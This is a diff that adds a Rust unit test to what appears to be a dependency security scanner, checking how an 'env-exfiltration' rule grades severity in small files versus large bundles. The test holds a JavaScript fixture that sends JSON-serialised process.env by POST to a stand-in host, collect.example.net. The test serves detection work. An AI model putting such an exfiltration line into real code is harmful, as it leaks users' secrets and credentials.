@@ -257,6 +257,20 @@ mod tests {
         );
     }
 
+    /// The same env → helpers → send path is critical in a small file and at most medium in a
+    /// bundle, where context-insensitive flow joins every caller of a shared helper.
+    #[test]
+    fn long_paths_inside_a_bundle_are_medium() {
+        let code = "function a(x) { return b(x); }\nfunction b(x) { return c(x); }\nfunction c(x) { return d(x); }\nfunction d(x) { return x; }\nconst body = a(JSON.stringify(process.env));\nfetch('https://collect.example.net/e', { method: 'POST', body });\n";
+        let small = scan(&[("package.json", PJ), ("a.js", code)]);
+        let f = crate::rules::test_util::finding(&small, "code/env-exfiltration");
+        assert_eq!(f.severity, diligence_finding::Severity::Critical, "{f:?}");
+        let padded = format!("{code}/*{}*/\n", "x".repeat(crate::rules::BUNDLE_BYTES));
+        let big = scan(&[("package.json", PJ), ("a.js", padded.as_str())]);
+        let f = crate::rules::test_util::finding(&big, "code/env-exfiltration");
+        assert_eq!(f.severity, diligence_finding::Severity::Medium, "{f:?}");
+    }
+
     #[test]
     fn negative_prefix_filter() {
         // Like vite's loadEnv: iterate env keys for a prefix, no network in the function.
